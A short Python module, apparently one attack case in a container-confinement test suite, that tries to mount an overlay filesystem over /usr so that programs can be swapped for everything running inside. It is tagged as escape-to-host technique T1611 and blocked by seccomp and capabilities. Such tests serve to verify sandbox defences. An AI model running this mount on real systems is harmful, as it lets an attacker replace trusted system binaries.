"""Lay an overlay over the system.

gain: changed programs for everything that runs inside
attack: T1611
stopped by: seccomp, capabilities
unconfined: cell
"""

import os

from attacker import call


def attempt(world):
    for name in ("upper", "inner"):
        os.makedirs(f"{world['work']}/{name}", exist_ok=True)
    options = f"lowerdir=/usr,upperdir={world['work']}/upper,workdir={world['work']}/inner,userxattr"
    call("mount", b"overlay", b"/usr", b"overlay", 0, options.encode())
    return "laid an overlay over /usr"
